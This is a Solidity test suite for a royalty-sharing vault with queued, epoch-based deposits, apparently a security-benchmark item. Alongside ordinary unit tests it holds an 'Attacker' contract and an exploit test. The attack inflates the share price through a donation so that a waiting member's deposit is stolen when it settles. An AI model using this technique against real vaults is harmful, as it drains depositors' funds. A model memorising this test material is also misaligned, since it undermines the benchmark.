// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./RoyaltyVault.sol";
import {VaultLens} from "./context/VaultLens.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-ac168c41-fb56-4214-a25c-029fa51c72a3

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Euro is ERC20, ERC20Permit {
    constructor() ERC20("Euro", "EUR") ERC20Permit("Euro") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Attacker {
    Euro private token;
    RoyaltyVault private vault;

    constructor(Euro t, RoyaltyVault v) {
        token = t;
        vault = v;
    }

    // In the epoch in which a member already waits.
    function enter() external {
        token.approve(address(vault), 1e18);
        vault.requestDeposit(1e18);
    }

    // Once the next epoch has begun.
    function run(address waiting) external {
        vault.settleDeposit(address(this));
        vault.redeem(vault.balanceOf(address(this)) - 1, address(this), 0);
        vault.retireFees();
        (uint128 expected, ) = vault.requestOf(waiting);
        token.transfer(address(vault), expected / 2);
        vault.settleDeposit(waiting);
        vault.redeem(vault.balanceOf(address(this)), address(this), 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x0E);
    address private constant GUARDIAN = address(0x6A);
    address private constant IRIS = address(0x1215);
    address private constant NOOR = address(0x200B);
    address private constant STRANGER = address(0x57);
    bytes32 private constant SONG = "song";
    uint256 private constant KEY = 0xA9A;
    uint256 private constant START = 1_700_000_000;

    Euro public token;
    RoyaltyVault private vault;
    VaultLens private lens;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Euro();
        vault = new RoyaltyVault(token, OWNER);
        lens = new VaultLens();
        vm.startPrank(OWNER);
        vault.setGuardian(GUARDIAN);
        vault.registerWork(SONG, "A song");
        vm.stopPrank();
        mallory = new Attacker(token, vault);
        token.transfer(IRIS, 100e18);
        token.transfer(NOOR, 100e18);
        token.transfer(vm.addr(KEY), 10e18);
        token.transfer(address(mallory), 60e18);
        vm.prank(IRIS);
        token.approve(address(vault), type(uint256).max);
        vm.prank(NOOR);
        token.approve(address(vault), type(uint256).max);
        token.approve(address(vault), type(uint256).max);
        _ask(IRIS, 100e18);
    }

    function _ask(address member, uint128 assets) private {
        vm.prank(member);
        vault.requestDeposit(assets);
    }

    function _permit(address asset, address owner, address spender, uint256 amount) private returns (uint8, bytes32, bytes32) {
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, owner, spender, amount, 0, START + 100 days));
        bytes32 domain = ERC20Permit(asset).DOMAIN_SEPARATOR();
        return vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", domain, hash)));
    }

    function _enters(bool early) private {
        address kim = vm.addr(KEY);
        (uint8 v, bytes32 r, bytes32 s) = _permit(address(token), kim, address(vault), 10e18);
        if (early) token.permit(kim, address(vault), 10e18, START + 100 days, v, r, s);
        vm.prank(kim);
        vault.requestDepositWithPermit(10e18, START + 100 days, v, r, s);
        (uint128 assets, uint64 epoch) = vault.requestOf(kim);
        require(assets == 10e18 && epoch == vault.currentEpoch() + 1, "requested with a permit");
    }

    function test_Regular() public {
        require(!vault.isReady(IRIS) && vault.waiting() == 100e18, "waits");
        _ask(NOOR, 40e18);
        _ask(NOOR, 20e18);
        vm.startPrank(NOOR);
        vault.reduceRequest(10e18);
        require(token.balanceOf(NOOR) == 50e18 && vault.waiting() == 150e18, "reduced");
        vault.cancelRequest();
        vm.stopPrank();
        require(token.balanceOf(NOOR) == 100e18 && vault.waiting() == 100e18, "cancelled");

        vm.warp(START + 14 days);
        require(vault.settleDeposit(IRIS) == 100e18 - 1e6, "first shares");
        token.transfer(address(vault), 15e18);
        vault.payRoyalty(SONG, 5e18);
        require(vault.totalAssets() == 120e18 && vault.paidFor(SONG) == 5e18, "royalties");
        require(vault.pricePerShare() == 1.2e18, "price");
        _ask(NOOR, 60e18);
        _enters(false);
        require(vault.totalAssets() == 120e18, "what waits stays outside");

        vm.warp(START + 28 days);
        address[] memory members = new address[](3);
        (members[0], members[1], members[2]) = (NOOR, IRIS, vm.addr(KEY));
        bool[] memory ready = vault.areReady(members);
        require(ready[0] && !ready[1] && ready[2], "ready");
        require(vault.settleMany(members) == 2 && vault.balanceOf(NOOR) == 50e18, "joined at 1.2");
        VaultLens.Position memory p = lens.positionOf(address(vault), NOOR);
        require(p.shares == 50e18 && p.exitFee == 0.25e18 && p.assets == 59.7e18 && p.requested == 0, "position");

        vm.prank(IRIS);
        require(vault.redeem(40e18, IRIS, 47e18) == 47.76e18, "less the fee");
        (uint8 v, bytes32 r, bytes32 s) = _permit(address(vault), vm.addr(KEY), NOOR, 2e18);
        vault.permit(vm.addr(KEY), NOOR, 2e18, START + 100 days, v, r, s);
        vm.prank(NOOR);
        vault.redeemFrom(vm.addr(KEY), 2e18, NOOR, 0);
        require(token.balanceOf(NOOR) == 40e18 + 2.388e18, "redeemed for another");
        vm.prank(NOOR);
        require(vault.redeem(50e18, NOOR, 0) == 59.7e18, "left");
        vm.startPrank(IRIS);
        vault.transfer(NOOR, 1e18);
        vault.approve(NOOR, 2e18);
        vm.stopPrank();
        vm.prank(NOOR);
        vault.transferFrom(IRIS, NOOR, 2e18);
        require(vault.balanceOf(NOOR) == 3e18, "passed on");
        _settings();
        require(vault.retireFees() >= 0.46e18, "fees retired");
    }

    function _settings() private {
        vm.startPrank(OWNER);
        vault.setExitFee(100);
        vault.setExitFee(0);
        vault.setMinimumRequest(2e18);
        vault.setActive(SONG, false);
        vault.setActive(SONG, true);
        vault.pause();
        vault.unpause();
        vault.recover(IERC20(address(new Euro())), OWNER);
        vm.stopPrank();
        Euro other = new Euro();
        other.transfer(address(vault), 7e18);
        vm.startPrank(OWNER);
        vault.recover(other, STRANGER);
        require(other.balanceOf(STRANGER) == 7e18, "recovered");
        vault.transferOwnership(NOOR);
        vm.stopPrank();
        vm.startPrank(NOOR);
        vault.acceptOwnership();
        require(vault.owner() == NOOR, "handed over");
        vault.renounceOwnership();
        vm.stopPrank();
    }

    // A permit that somebody handed in first.
    function test_RefusesNoEarlierPermit() public {
        _enters(true);
    }

    function _refuses(address who, bytes4 why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function _refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesSetups() public {
        vm.expectRevert(IRoyaltyVault.ZeroAsset.selector);
        new RoyaltyVault(IERC20(address(0)), OWNER);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableInvalidOwner.selector, address(0)));
        new RoyaltyVault(token, address(0));
    }

    function test_RefusesRequests() public {
        _refuses(NOOR, abi.encodeWithSelector(EpochQueue.NothingRequested.selector, NOOR));
        vault.cancelRequest();
        _refuses(NOOR, abi.encodeWithSelector(EpochQueue.NothingRequested.selector, NOOR));
        vault.settleDeposit(NOOR);
        _refuses(NOOR, abi.encodeWithSelector(EpochQueue.RequestTooSmall.selector, 1e18 - 1, 1e18));
        vault.requestDeposit(1e18 - 1);
        _refuses(IRIS, abi.encodeWithSelector(EpochQueue.RequestTooSmall.selector, 1e18 - 1, 1e18));
        vault.reduceRequest(99e18 + 1);
        vm.prank(NOOR);
        vm.expectRevert();
        vault.reduceRequest(1);
        vm.prank(NOOR);
        vm.expectRevert();
        vault.requestDeposit(100e18 + 1);
        vm.warp(START + 14 days - 1);
        vm.expectRevert(abi.encodeWithSelector(EpochQueue.EpochNotStarted.selector, 1));
        vault.settleDeposit(IRIS);
        address[] memory members = new address[](1);
        members[0] = IRIS;
        require(vault.settleMany(members) == 0, "passed over");
        members[0] = NOOR;
        require(vault.settleMany(members) == 0, "passed over too");
        vm.warp(START + 14 days);
        vault.settleDeposit(IRIS);
        vm.expectRevert(abi.encodeWithSelector(EpochQueue.NothingRequested.selector, IRIS));
        vault.settleDeposit(IRIS);
    }

    function test_RefusesPermits() public {
        (uint8 v, bytes32 r, bytes32 s) = _permit(address(token), vm.addr(KEY), address(vault), 10e18);
        vm.prank(STRANGER);
        vm.expectRevert();
        vault.requestDepositWithPermit(10e18, START + 100 days, v, r, s);
    }

    // A deposit that is worth no share.
    function test_RefusesCrumbs() public {
        vm.prank(OWNER);
        vault.setMinimumRequest(1e15);
        vm.prank(OWNER);
        vault.setExitFee(0);
        vm.warp(START + 14 days);
        vault.settleDeposit(IRIS);
        vm.startPrank(IRIS);
        vault.redeem(vault.balanceOf(IRIS), IRIS, 0);
        vm.stopPrank();
        token.transfer(address(vault), 9_000e18);
        _ask(NOOR, 1e15);
        vm.warp(START + 28 days);
        vm.expectRevert(abi.encodeWithSelector(IRoyaltyVault.NoShares.selector, 1e15));
        vault.settleDeposit(NOOR);
    }

    function test_RefusesExits() public {
        vm.warp(START + 14 days);
        vault.settleDeposit(IRIS);
        _refuses(IRIS, IRoyaltyVault.ZeroReceiver.selector);
        vault.redeem(1e18, address(0), 0);
        _refuses(IRIS, abi.encodeWithSelector(IRoyaltyVault.TooFewAssets.selector, 0.995e18, 0.995e18 + 1));
        vault.redeem(1e18, IRIS, 0.995e18 + 1);
        vm.prank(NOOR);
        vm.expectRevert();
        vault.redeem(1e18, NOOR, 0);
        vm.prank(NOOR);
        vm.expectRevert();
        vault.redeemFrom(IRIS, 1e18, NOOR, 0);
        vm.prank(IRIS);
        vault.approve(NOOR, 1e18 - 1);
        vm.prank(NOOR);
        vm.expectRevert();
        vault.redeemFrom(IRIS, 1e18, NOOR, 0);
    }

    function test_RefusesRetirements() public {
        vm.expectRevert();
        vault.retireFees();
        vm.warp(START + 14 days);
        vault.settleDeposit(IRIS);
        vm.prank(IRIS);
        vault.redeem(10e18, IRIS, 0);
        vault.retireFees();
        vm.expectRevert(IRoyaltyVault.NothingToRetire.selector);
        vault.retireFees();
    }

    function test_RefusesWorks() public {
        vm.expectRevert(abi.encodeWithSelector(IRoyaltyVault.NotActive.selector, bytes32("film")));
        vault.payRoyalty("film", 1);
        vm.startPrank(OWNER);
        vm.expectRevert(IRoyaltyVault.EmptyTitle.selector);
        vault.registerWork("film", "");
        vm.expectRevert(abi.encodeWithSelector(IRoyaltyVault.AlreadyRegistered.selector, SONG));
        vault.registerWork(SONG, "Another song");
        vm.expectRevert(abi.encodeWithSelector(IRoyaltyVault.NotRegistered.selector, bytes32("film")));
        vault.setActive("film", true);
        vault.setActive(SONG, false);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(IRoyaltyVault.NotActive.selector, SONG));
        vault.payRoyalty(SONG, 1);
    }

    function test_RefusesRecoveries() public {
        vm.startPrank(OWNER);
        vm.expectRevert(abi.encodeWithSelector(IRoyaltyVault.NotRecoverable.selector, address(token)));
        vault.recover(token, OWNER);
        vm.expectRevert(abi.encodeWithSelector(IRoyaltyVault.NotRecoverable.selector, address(vault)));
        vault.recover(vault, OWNER);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, STRANGER);
        vm.startPrank(STRANGER);
        vm.expectRevert(why);
        vault.registerWork("film", "A film");
        vm.expectRevert(why);
        vault.setActive(SONG, false);
        vm.expectRevert(why);
        vault.recover(IERC20(address(lens)), STRANGER);
        vm.expectRevert(why);
        vault.setExitFee(1);
        vm.expectRevert(why);
        vault.setMinimumRequest(1e18);
        vm.expectRevert(why);
        vault.setGuardian(STRANGER);
        vm.expectRevert(why);
        vault.unpause();
        vm.expectRevert(why);
        vault.transferOwnership(STRANGER);
        vm.expectRevert(why);
        vault.acceptOwnership();
        vm.expectRevert(why);
        vault.renounceOwnership();
        vm.expectRevert(abi.encodeWithSelector(VaultSettings.NotGuardian.selector, STRANGER));
        vault.pause();
        vm.stopPrank();
    }

    function test_RefusesSettings() public {
        vm.startPrank(OWNER);
        vm.expectRevert(abi.encodeWithSelector(VaultSettings.FeeTooLarge.selector, 101, 100));
        vault.setExitFee(101);
        vm.expectRevert(abi.encodeWithSelector(VaultSettings.MinimumOutOfBounds.selector, 1e15 - 1));
        vault.setMinimumRequest(1e15 - 1);
        vm.expectRevert(abi.encodeWithSelector(VaultSettings.MinimumOutOfBounds.selector, 1_000e18 + 1));
        vault.setMinimumRequest(1_000e18 + 1);
        vault.setMinimumRequest(1e15);
        vault.setMinimumRequest(1_000e18);
        vm.stopPrank();
    }

    function test_RefusesWhilePaused() public {
        vm.warp(START + 14 days);
        address[] memory members = new address[](1);
        members[0] = IRIS;
        vm.startPrank(GUARDIAN);
        vault.pause();
        vm.expectRevert();
        vault.unpause();
        vm.stopPrank();
        _refuses(NOOR, Pausable.EnforcedPause.selector);
        vault.requestDeposit(1e18);
        (uint8 v, bytes32 r, bytes32 s) = _permit(address(token), vm.addr(KEY), address(vault), 10e18);
        _refuses(vm.addr(KEY), Pausable.EnforcedPause.selector);
        vault.requestDepositWithPermit(10e18, START + 100 days, v, r, s);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.settleDeposit(IRIS);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.settleMany(members);
        vm.prank(IRIS);
        vault.cancelRequest();
        require(token.balanceOf(IRIS) == 100e18, "members can always cancel");
    }

    function exploit() public {
        mallory.enter();
        vm.warp(START + 14 days);
        mallory.run(IRIS);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 80e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
